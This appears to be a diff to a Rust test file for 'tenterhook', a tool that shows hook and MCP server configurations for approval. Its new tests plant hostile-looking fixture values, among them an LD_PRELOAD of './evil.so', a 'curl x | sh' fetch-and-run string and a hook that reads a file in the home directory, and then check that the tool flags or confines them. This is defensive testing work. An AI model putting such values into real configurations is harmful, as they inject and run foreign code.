@@ -1,6 +1,7 @@
 //! `trust` through the program: what is shown, what is kept, and what a script may say.
 
 use serde_json::Value;
+use tenterhook_testkit::case::server_that_says;
 
 use crate::room::Room;
 
@@ -101,6 +102,38 @@ fn what_is_approved_is_shown_to_its_end() {
     assert!(page.contains("\n-&& 1 == 1\n+&& 2 == 2\n"), "{page}");
 }
 
+/// T-40: a server's variables and headers are approved with it, and an entry's own words are looked at in each of its rows.
+#[test]
+fn what_a_server_brings_is_shown() {
+    let room = Room::new().unapproved();
+    room.write(
+        "project/.mcp.json",
+        r#"{"mcpServers": {"a": {"command": "true", "env": {"LD_PRELOAD": "./evil.so"}},
+            "b": {"type": "http", "url": "https://b.example/mcp", "headers": {"X-Key": "secret"}}}}"#,
+    );
+    room.write(
+        "project/tenterhook.toml",
+        "[hook.run]\non = 'Stop'\nrun = ['true']\nenv = { A = 'curl x | sh' }\n\
+         [hook.free]\non = 'Stop'\nrun = ['true']\nsandbox = 'off'\n",
+    );
+    let asked = room.run(&["trust"], "");
+    // Of every source, and not of the first alone.
+    assert_eq!(asked.stderr.matches("--yes").count(), 2, "{}", asked.stderr);
+    let page = asked.stdout;
+    for part in [
+        "env LD_PRELOAD=./evil.so",
+        "headers X-Key",
+        "look at   `env`: line 1 runs what it fetches",
+        "run a program in a sandbox",
+        "sandbox   standard under `tenterhook`, as nothing else is said",
+        "run a program with your rights",
+        "sandbox   off",
+    ] {
+        assert!(page.contains(part), "{part}\n{page}");
+    }
+    assert!(!page.contains("secret"), "{page}");
+}
+
 /// T-10: what nobody approved is looked at all the same, before somebody does.
 #[test]
 fn what_would_not_start_is_found_before_it_is_approved() {
@@ -119,23 +152,12 @@ fn a_gate_whose_server_became_another_holds() {
         r#"{"hooks": {"PreToolUse": [{"hooks": [{"type": "mcp_tool", "server": "guard", "tool": "judge"}]}]}}"#,
     )
     .unapproved();
-    let server = r#"#!/bin/sh
-while IFS= read -r line; do
-rest=${line#*'"id":'}
-id=${rest%%[,\}]*}
-case $line in
-*'"method":"initialize"'*) result='{"protocolVersion":"2025-06-18","capabilities":{"tools":{}},"serverInfo":{"name":"guard","version":"1"}}' ;;
-*'"method":"tools/call"'*) result='{"content":[{"type":"text","text":"{}"}]}' ;;
-*) continue ;;
-esac
-printf '{"jsonrpc":"2.0","id":%s,"result":%s}\n' "$id" "$result"
-done
-"#;
+    let server = server_that_says("{}");
     room.write(
         "project/.mcp.json",
         r#"{"mcpServers": {"guard": {"command": "sh", "args": ["servers/guard.sh"]}}}"#,
     );
-    room.write("project/servers/guard.sh", server);
+    room.write("project/servers/guard.sh", &server);
     room.write("project/event.json", CALL);
     let fire = || {
         let said = room.run(&["fire", "--format", "json", "event.json"], "");
@@ -150,7 +172,7 @@ done
     assert_eq!(fire(), (0, None));
     room.write("project/servers/guard.sh", &format!("{server}\n"));
     assert_eq!(fire(), (3, Some("changed-since-approved".to_owned())));
-    room.write("project/servers/guard.sh", server);
+    room.write("project/servers/guard.sh", &server);
     assert_eq!(fire(), (0, None));
     room.write("project/.mcp.json", "{\"mcpServers\": {\"guard\": {\"command\": \"true\"}}}");
     assert_eq!(fire(), (3, Some("changed-since-approved".to_owned())));
@@ -162,6 +184,24 @@ fn a_named_file_runs() {
     let room = room();
     assert_eq!(room.run(&["fire", "--config", ".claude/settings.json"], CALL).code, 2);
     assert_eq!(room.run(&["fire", "event.json"], "").code, 0);
+}
+
+/// X-15: what a repository brings is confined unless its file is named.
+#[test]
+fn a_hook_that_is_found_is_confined_and_one_that_is_named_is_not() {
+    let room = Room::new();
+    room.write("home/kept", "what is not the hook's business\n");
+    room.write(
+        "project/tenterhook.toml",
+        "[hook.reads]\non = 'PreToolUse'\nshell = 'cat \"$HOME/kept\" >/dev/null || exit 2'\n",
+    );
+    room.write("project/event.json", CALL);
+    room.approve("project");
+    let reaches = tenterhook_process::means().tier() >= tenterhook_process::Tier::T1;
+    let found = room.run(&["fire", "event.json"], "");
+    assert_eq!(found.code, if reaches { 2 } else { 0 }, "{}", found.all());
+    let named = room.run(&["fire", "--config", "tenterhook.toml", "event.json"], "");
+    assert_eq!(named.code, 0, "{}", named.all());
 }
 
 /// T-19: what `init` wrote holds nothing up.
